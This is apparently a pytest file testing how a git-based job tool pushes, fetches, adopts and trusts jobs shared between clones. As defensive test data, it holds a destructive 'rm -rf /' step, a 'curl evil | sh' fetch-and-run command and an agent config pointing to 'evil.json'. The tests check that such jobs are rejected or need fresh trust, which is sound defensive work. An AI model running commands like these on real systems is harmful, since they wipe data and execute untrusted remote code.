"""Sharing through real bare remotes and several clones: push, fetch, remote listing, notes
merging, adopt, trust, pull requests (docs/sharing.md).

The helpers (``Net``, ``lg``, ``make_job`` ...) are in tests/_sharekit.py.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import time
from pathlib import Path

from _oracle import Oracle
from _sharekit import (
    COMMAND_TOML,
    fake_gh,
    lg,
    make_job,
    manifest_at,
    remote_manifest,
    remote_refs,
    transitions,
)
from conftest import git, wtdir

# ============================================================================ push / fetch


def test_push_fetch_round_trip_and_remote_listing(net, monkeypatch):
    monkeypatch.delenv("LOGIST_NO_WATCHER")
    jid = make_job(net.a, "Add greeting", writes={"hello.txt": "hello\n"})
    draft = make_job(net.a, "Later", activate=False)
    res = lg(net.a, "push", "--json").json()
    assert f"refs/heads/logist/{jid}" in res["pushed"]
    theirs = remote_refs(net.remote)
    assert theirs[f"refs/heads/logist/{jid}"] == git(net.a, "rev-parse", f"logist/{jid}")
    assert f"refs/heads/logist/{draft}" in theirs
    assert "refs/notes/logist/logs" in theirs  # the step log travels as a note
    assert not any(r.startswith("refs/logist/locks/") for r in theirs)
    # the bare remote, read with GitPython: the job, its record and history as pushed
    remote = Oracle(net.remote)
    assert remote.check_job(jid, state="SUCCESS") == Oracle(net.a).record(jid)
    assert remote.check_job(draft, state="DRAFT")
    assert remote.refs("refs/heads/logist/") == {r: o for r, o in theirs.items() if r.startswith("refs/heads/logist/")}
    assert remote.note("refs/notes/logist/logs", remote.tip(jid))  # the step log, on the harvest commit
    # a second push has nothing to do
    assert lg(net.a, "push", "--json").json()["pushed"] == []

    b = net.clone("b")
    lg(b, "fetch")
    rows = {r["id"]: r for r in lg(b, "job", "list", "--remote", "origin", "--json", "--all").json()}
    assert rows[jid]["state"] == "SUCCESS" and rows[jid]["branch"] == f"origin/logist/{jid}"
    assert rows[draft]["state"] == "DRAFT"
    st = lg(b, "job", "status", jid, "--remote", "origin", "--json").json()
    assert st["state"] == "SUCCESS" and st["head"] == theirs[f"refs/heads/logist/{jid}"]
    # plain git is enough on any clone
    log = git(b, "log", "--format=%s", f"origin/logist/{jid}")
    assert f"logist({jid}): HARVESTING -> SUCCESS (step 1/1)" in log
    assert git(b, "show", f"origin/logist/{jid}:hello.txt") == "hello"
    assert transitions(b, f"origin/logist/{jid}")[-1] == ("HARVESTING", "SUCCESS")
    # notes were fetched and merged into the local notes ref
    harvest = git(b, "rev-parse", f"origin/logist/{jid}")
    assert git(b, "notes", "--ref", "refs/notes/logist/logs", "show", harvest)
    assert git(b, "rev-parse", "refs/notes/remotes/origin/logist/logs")
    # the local job list of b is untouched (fetch never creates local branches)
    assert lg(b, "job", "list", "--json", "--all").json() == []


def test_push_selected_jobs_and_logist_refs_but_never_locks(net):
    from logist.store.jobstore import JobStore
    from logist.store.locks import acquire

    j1 = make_job(net.a, "One")
    j2 = make_job(net.a, "Two")
    tip = git(net.a, "rev-parse", f"logist/{j1}")
    git(net.a, "update-ref", f"refs/logist/runs/{j1}/1", tip)
    git(net.a, "update-ref", f"refs/logist/archive/{j1}", tip)
    lease = acquire(JobStore.discover(net.a), j1)
    try:
        lg(net.a, "push", "origin", j1)
    finally:
        lease.release()
    theirs = remote_refs(net.remote)
    assert f"refs/heads/logist/{j1}" in theirs and f"refs/heads/logist/{j2}" not in theirs
    assert theirs[f"refs/logist/runs/{j1}/1"] == tip
    assert theirs[f"refs/logist/archive/{j1}"] == tip
    assert not any("locks" in r for r in theirs)
    b = net.clone("b")
    lg(b, "fetch")
    assert git(b, "rev-parse", f"refs/logist/remotes/origin/runs/{j1}/1") == tip


def test_push_and_fetch_refuse_bad_names(net):
    for args in (["push", "bad;remote"], ["push", "--", "-x"], ["fetch", "../../etc"],
                 ["job", "adopt", "../Bad"], ["job", "list", "--remote", "a b"]):
        res = lg(net.a, *args, code=None)
        assert res.code == 2, (args, res)
    res = lg(net.a, "fetch", "nosuch", code=1)
    assert "no remote named 'nosuch'" in res.err and "hint" in res.err
    res = lg(net.a, "push", "origin", "no-such-job", code=1)
    assert "no job 'no-such-job'" in res.err


def test_push_when_the_job_went_on_elsewhere_and_when_it_diverged(net):
    jid = make_job(net.a, "Shared", run=False)
    lg(net.a, "push")
    b = net.clone("b")
    lg(b, "job", "adopt", jid)
    lg(b, "job", "run", jid)
    lg(b, "push")
    # a did not fetch: as far as it knows there is nothing to push
    assert "up to date" in lg(net.a, "push").out
    # after a fetch it knows it is behind: its push leaves the branch alone and says how to catch up
    lg(net.a, "fetch")
    res = lg(net.a, "push")
    assert "went on elsewhere" in res.out and "job adopt" in res.out
    assert remote_manifest(net.remote, jid)["state"] == "SUCCESS"
    res = lg(net.a, "job", "adopt", jid, "--json").json()
    assert res["action"] == "fast-forward"
    assert lg(net.a, "job", "status", jid, "--json").json()["state"] == "SUCCESS"
    assert git(net.a, "-C", str(wtdir(net.a) / jid), "status", "--porcelain") == ""
    # both clones change the job: the second push is refused for that job, nothing is lost
    j2 = make_job(net.a, "Contested", run=False)
    lg(net.a, "push")
    lg(b, "job", "adopt", j2)
    lg(b, "job", "suspend", j2)
    lg(b, "push")
    lg(net.a, "job", "cancel", j2)
    before = remote_refs(net.remote)[f"refs/heads/logist/{j2}"]
    res = lg(net.a, "push", code=1)
    assert "diverged" in res.err
    assert remote_refs(net.remote)[f"refs/heads/logist/{j2}"] == before
    res = lg(net.a, "job", "adopt", j2, code=1)
    assert "diverged" in res.err


def test_notes_merge_after_concurrent_pushes_from_two_clones(net):
    from logist.git.notes import append_notes, read_note

    jid = make_job(net.a, "Noted")
    lg(net.a, "push")
    b = net.clone("b")
    lg(b, "job", "adopt", jid)
    commit = git(net.a, "rev-parse", f"logist/{jid}~2")
    git(b, "merge-base", "--is-ancestor", commit, f"logist/{jid}")  # the noted commit is b's too
    start = git(net.a, "rev-parse", f"logist/{jid}~1")
    for i in range(3):
        append_notes(net.a, "refs/notes/logist/observer",
                     {commit: [json.dumps({"t": f"2025-01-01T00:00:0{i}Z", "from": "a", "i": i})]})
        append_notes(b, "refs/notes/logist/observer",
                     {commit: [json.dumps({"t": f"2025-01-01T00:00:0{i}Z", "from": "b", "i": i})],
                      start: [json.dumps({"t": "2025-01-02T00:00:00Z", "from": "b"})]})
    # both push at the same time (real processes): one wins, the other merges and pushes again
    procs = [subprocess.Popen([sys.executable, "-m", "logist", "push", "--json"], cwd=str(c),
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
             for c in (net.a, b)]
    outs = [p.communicate(timeout=60) for p in procs]
    assert [p.returncode for p in procs] == [0, 0], outs
    remote_note = subprocess.run(["git", "--git-dir", str(net.remote), "notes", "--ref",
                                  "refs/notes/logist/observer", "show", commit],
                                 capture_output=True, text=True, check=True).stdout
    lines = remote_note.splitlines()
    assert len(lines) == 6 and lines == sorted(lines)
    assert {json.loads(x)["from"] for x in lines} == {"a", "b"}
    # the other clone gets everything back with a fetch (cat_sort_uniq: no duplicates)
    lg(net.a, "fetch")
    assert read_note(net.a, "refs/notes/logist/observer", commit).splitlines() == lines
    assert read_note(net.a, "refs/notes/logist/observer", start)
    lg(b, "fetch")
    assert read_note(b, "refs/notes/logist/observer", commit).splitlines() == lines
    assert not git(b, "for-each-ref", "refs/notes/logist-merge/")


def test_fetched_invalid_record_is_data_not_a_crash(net):
    evil = net.clone("evil", init=False)
    git(evil, "switch", "-q", "-c", "logist/evil-job-1")
    d = evil / ".logist/jobs/evil-job-1"
    d.mkdir(parents=True)
    (d / "manifest.json").write_text('{"id": "evil-job-1", "state": "PENDING", "steps": "rm -rf /"}\n')
    git(evil, "add", ".")
    git(evil, "commit", "-q", "-m", "evil")
    git(evil, "push", "-q", "origin", "logist/evil-job-1")
    # a lock record that is garbage too
    blob = subprocess.run(["git", "-C", str(evil), "hash-object", "-w", "--stdin"], input="{not json",
                          capture_output=True, text=True, check=True).stdout.strip()
    git(evil, "push", "-q", "origin", f"{blob}:refs/logist/locks/evil-job-1")
    b = net.clone("b")
    lg(b, "fetch")
    rows = lg(b, "job", "list", "--remote", "origin", "--json", "--all").json()
    assert [(r["id"], r["state"], r["branch"], r["worktree"]) for r in rows] == [
        ("evil-job-1", "INVALID", "origin/logist/evil-job-1", None)]
    assert "is invalid" in rows[0]["error"] and rows[0]["head"] == git(b, "rev-parse", "origin/logist/evil-job-1")
    res = lg(b, "job", "adopt", "evil-job-1", code=1)
    assert "invalid" in res.err
    assert git(b, "branch", "--list", "logist/*") == ""
    from logist.share.survey import survey
    from logist.store.jobstore import JobStore

    sv = survey(JobStore.discover(b), "origin")
    assert sv.invalid == ["evil-job-1"] and sv.claimable == []


# ============================================================================ adopt and trust


def test_adopt_creates_branch_worktree_and_records_origin(net):
    jid = make_job(net.a, "Adoptable", run=False)
    lg(net.a, "push")
    b = net.clone("b")
    res = lg(b, "job", "adopt", jid, "--json").json()
    assert res["action"] == "created" and res["trusted"] is True
    wt = Path(res["worktree"])
    assert (wt / ".git").exists() and git(wt, "status", "--porcelain") == ""
    m = manifest_at(b, f"logist/{jid}", jid)
    assert m["origin"] == "remote:origin" and m["trusted"] is True and m["state"] == "PENDING"
    # one fenced record commit on top of the remote tip, with logist's trailers
    assert git(b, "rev-parse", f"logist/{jid}~1") == git(b, "rev-parse", f"origin/logist/{jid}")
    trailers = git(b, "log", "-1", "--format=%(trailers:key=Logist-Event,valueonly)", f"logist/{jid}")
    assert trailers.strip() == "note"
    assert git(b, "log", "-1", "--format=%(trailers:key=Logist-Lease,valueonly)", f"logist/{jid}")
    assert not git(b, "for-each-ref", "refs/logist/locks/")  # lease released
    # adopting again is a no-op
    assert lg(b, "job", "adopt", jid, "--json").json()["action"] in ("ahead", "up-to-date")
    lg(b, "job", "run", jid)
    assert lg(b, "job", "status", jid, "--json").json()["state"] == "SUCCESS"
    assert Oracle(b).check_job(jid, state="SUCCESS")["origin"] == "remote:origin"


def test_adopt_takes_the_lease_only_if_free_or_expired(net):
    from logist.store.locks import Holder

    jid = make_job(net.a, "Held", run=False)
    lg(net.a, "push")
    b = net.clone("b")

    def push_lock(heartbeat: float) -> None:
        h = Holder(pid=1, host="other-machine", boot_id="x", start_time=None, command="logist worker",
                   acquired_at=heartbeat, heartbeat_at=heartbeat, lease_seconds=60)
        blob = subprocess.run(["git", "-C", str(net.a), "hash-object", "-w", "--stdin"],
                              input=h.to_bytes().decode(), capture_output=True, text=True,
                              check=True).stdout.strip()
        git(net.a, "push", "-q", "--force", "origin", f"{blob}:refs/logist/locks/{jid}")

    push_lock(time.time())
    res = lg(b, "job", "adopt", jid, code=4)
    assert "held on origin" in res.err and "other-machine" in res.err
    assert git(b, "branch", "--list", f"logist/{jid}") == ""
    push_lock(time.time() - 3600)  # a worker that died an hour ago
    lg(b, "job", "adopt", jid)
    assert git(b, "rev-parse", "--verify", f"logist/{jid}")


def test_trust_refusal_then_acceptance(net):
    jid = make_job(net.a, "Builds", toml=COMMAND_TOML.format(title="Builds", python=sys.executable),
                   run=False)
    # made here: trusted here
    assert manifest_at(net.a, f"logist/{jid}", jid)["trusted"] is True
    lg(net.a, "push")
    b = net.clone("b")
    # the fetched record says trusted: that is not believed
    assert remote_manifest(net.remote, jid)["trusted"] is True
    res = lg(b, "job", "adopt", jid, "--json").json()
    assert res["trusted"] is False
    m = manifest_at(b, f"logist/{jid}", jid)
    assert m["trusted"] is False and m["origin"] == "remote:origin"
    wt = Path(res["worktree"])
    res = lg(b, "job", "run", jid, code=1)
    assert "not executed until you trust the job" in res.err and f"logist job trust {jid}" in res.err
    assert not (wt / "ran.txt").exists()
    assert lg(b, "job", "status", jid, "--json").json()["state"] == "PENDING"
    # trust shows the commands first, then commits the record change
    res = lg(b, "job", "trust", jid)
    assert "open('ran.txt'" in res.out and "trusted in this clone" in res.out
    assert manifest_at(b, f"logist/{jid}", jid)["trusted"] is True
    assert git(b, "log", "-1", "--format=%s", f"logist/{jid}").startswith(f"logist({jid}): note")
    lg(b, "job", "run", jid)
    assert git(b, "show", f"logist/{jid}:ran.txt") == "ran"  # (its worktree was given back)
    assert lg(b, "job", "status", jid, "--json").json()["state"] == "SUCCESS"


def test_trust_flag_on_run_and_trust_before_adopting(net):
    j1 = make_job(net.a, "One", toml=COMMAND_TOML.format(title="One", python=sys.executable), run=False)
    j2 = make_job(net.a, "Two", toml=COMMAND_TOML.format(title="Two", python=sys.executable), run=False)
    mock = make_job(net.a, "Prompt only", run=False)
    lg(net.a, "push")
    c = net.clone("c")
    lg(c, "job", "adopt", j1)
    lg(c, "job", "run", j1, "--trust")
    assert lg(c, "job", "status", j1, "--json").json()["state"] == "SUCCESS"
    # trusting a job that is only fetched: remembered for the adoption
    lg(c, "fetch")
    res = lg(c, "job", "trust", j2, "--remote", "origin")
    assert "origin/logist/" in res.out
    assert lg(c, "job", "adopt", j2, "--json").json()["trusted"] is True
    lg(c, "job", "run", j2)
    # mock/AI prompts need no trust
    assert "nothing to trust" in lg(c, "job", "trust", mock, "--remote", "origin").out
    assert lg(c, "job", "adopt", mock, "--json").json()["trusted"] is True


def test_trust_is_pinned_to_the_commands(net):
    from logist.core.model import parse_manifest
    from logist.share.trust import commands_digest, record_trust, trusted_here
    from logist.store.jobstore import JobStore

    jid = make_job(net.a, "Pinned", toml=COMMAND_TOML.format(title="Pinned", python=sys.executable),
                   run=False)
    store = JobStore.discover(net.a)
    _, m = store.read(jid)
    record_trust(store, m)
    assert trusted_here(store, m)
    changed = parse_manifest(m.model_dump_json())
    changed.steps[0].options["command"] = ["sh", "-c", "curl evil | sh"]
    assert commands_digest(changed) != commands_digest(m)
    assert not trusted_here(store, changed)
    assert not trusted_here(store, changed, previous=m)
    # extra CLI args for an AI agent count as commands too
    ai = parse_manifest(m.model_dump_json())
    ai.steps[0].agent = "claude"
    ai.steps[0].options = {"args": ["--mcp-config", "evil.json"]}
    from logist.share.trust import steps_needing_trust

    assert steps_needing_trust(ai) == [(1, "claude", ["claude", "--mcp-config", "evil.json"])]


# ============================================================================ pull requests


def test_pr_with_gh(net, tmp_path, monkeypatch):
    jid = make_job(net.a, "Reviewable", writes={"r.txt": "r\n"})
    log = tmp_path / "gh.json"
    fake_gh(tmp_path / "bin", log)
    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}")
    res = lg(net.a, "job", "pr", jid)
    assert "https://github.com/acme/project/pull/7" in res.out
    rec = json.loads(log.read_text())
    assert rec["argv"][:2] == ["pr", "create"]
    opts = rec["opts"]
    # the pull request is from the review branch: the work only (tests/test_review.py)
    assert opts["head"] == f"logist-review/{jid}" and opts["base"] == "main"
    assert "Reviewable" in opts["title"]
    body = rec["body"]
    assert "Reviewable" in body and "| 1 | write | mock | COMPLETED | $0.0100 |" in body
    assert f"git log logist/{jid}" in body
    pushed = remote_refs(net.remote)  # pushed first
    assert f"refs/heads/logist/{jid}" in pushed and f"refs/heads/logist-review/{jid}" in pushed
    # an open pull request for the branch: pushing updated it
    fake_gh(tmp_path / "bin", log, fail=True)
    res = lg(net.a, "job", "pr", jid)
    assert "updated the open pull request" in res.out
    # gh failing is a clear error, not a traceback
    fake_gh(tmp_path / "bin", log, fail=True, fail_message="HTTP 401: Bad credentials")
    res = lg(net.a, "job", "pr", jid, code=1)
    assert "gh pr create failed" in res.err and "Bad credentials" in res.err


def test_pr_without_gh_prints_the_compare_url(net, monkeypatch):
    jid = make_job(net.a, "Web", writes={"w.txt": "w\n"})
    monkeypatch.setenv("PATH", "/usr/bin:/bin")
    res = lg(net.a, "job", "pr", jid)
    assert "not a web forge" in res.out
    git(net.a, "remote", "set-url", "origin", "git@github.com:acme/project.git")
    git(net.a, "remote", "set-url", "--push", "origin", str(net.remote))
    res = lg(net.a, "job", "pr", jid, "--json").json()
    assert res["url"] == f"https://github.com/acme/project/compare/main...logist-review/{jid}?expand=1"
    assert res["via"] == "url"


def test_compare_urls():
    from logist.share.pr import compare_url

    assert compare_url("https://github.com/o/r.git", "main", "logist/x-1") == \
        "https://github.com/o/r/compare/main...logist/x-1?expand=1"
    assert compare_url("ssh://git@gitlab.example.com:2222/g/sub/r.git", "dev", "logist/x-1") == \
        ("https://gitlab.example.com/g/sub/r/-/merge_requests/new?merge_request%5Bsource_branch%5D="
         "logist/x-1&merge_request%5Btarget_branch%5D=dev")
    assert compare_url("git@bitbucket.org:o/r.git", "main", "logist/x-1") == \
        "https://bitbucket.org/o/r/pull-requests/new?source=logist/x-1&dest=main"
    assert compare_url("/srv/git/r.git", "main", "logist/x") is None
    assert compare_url("file:///srv/git/r.git", "main", "logist/x") is None


def test_fetch_prunes_jobs_deleted_on_the_remote(net):
    jid = make_job(net.a, "Gone soon", run=False)
    lg(net.a, "push")
    b = net.clone("b")
    assert lg(b, "fetch", "--json").json()["jobs"] == 1  # (git clone fetched the branch already)
    j2 = make_job(net.a, "Newer", run=False)
    lg(net.a, "push")
    assert lg(b, "fetch", "--json").json()["new"] == [j2]
    git(net.a, "push", "-q", "origin", f":refs/heads/logist/{jid}")
    res = lg(b, "fetch", "--json").json()
    assert res["gone"] == [jid]
    assert [r["id"] for r in lg(b, "job", "list", "--remote", "origin", "--json", "--all").json()] == [j2]


def test_concurrent_fetch_and_push_threads_do_not_corrupt_notes(net):
    """Local note writers and a fetch merging notes at the same time lose nothing."""
    from logist.git.notes import append_notes, read_note

    jid = make_job(net.a, "Busy")
    lg(net.a, "push")
    b = net.clone("b")
    lg(b, "job", "adopt", jid)
    commit = git(b, "rev-parse", f"origin/logist/{jid}")
    for i in range(5):
        append_notes(net.a, "refs/notes/logist/sentinel", {commit: [json.dumps({"t": f"a{i}"})]})
    lg(net.a, "push")
    errors = []

    def writer():
        try:
            for i in range(20):
                append_notes(b, "refs/notes/logist/sentinel", {commit: [json.dumps({"t": f"b{i:02d}"})]})
        except Exception as exc:  # pragma: no cover - reported below
            errors.append(exc)

    t = threading.Thread(target=writer)
    t.start()
    for _ in range(3):
        lg(b, "fetch")
    t.join()
    lg(b, "fetch")
    assert not errors
    lines = read_note(b, "refs/notes/logist/sentinel", commit).splitlines()
    assert {json.loads(x)["t"] for x in lines} == {f"a{i}" for i in range(5)} | {f"b{i:02d}" for i in range(20)}


def test_push_after_a_rerun_replaces_the_branch_keeping_the_old_run(net):
    jid = make_job(net.a, "Rerun me", writes={"r.txt": "r\n"})
    lg(net.a, "push")
    old = git(net.a, "rev-parse", f"logist/{jid}")
    lg(net.a, "job", "rerun", jid)  # the branch is rewound; run 1 stays at refs/logist/runs/<id>/1
    new = git(net.a, "rev-parse", f"logist/{jid}")
    assert git(net.a, "merge-base", "--is-ancestor", old, new, check=False) == ""
    res = lg(net.a, "push", "--json").json()
    assert f"refs/heads/logist/{jid}" in res["pushed"] and res["skipped"] == {}
    theirs = remote_refs(net.remote)
    assert theirs[f"refs/heads/logist/{jid}"] == new
    assert theirs[f"refs/logist/runs/{jid}/1"] == old
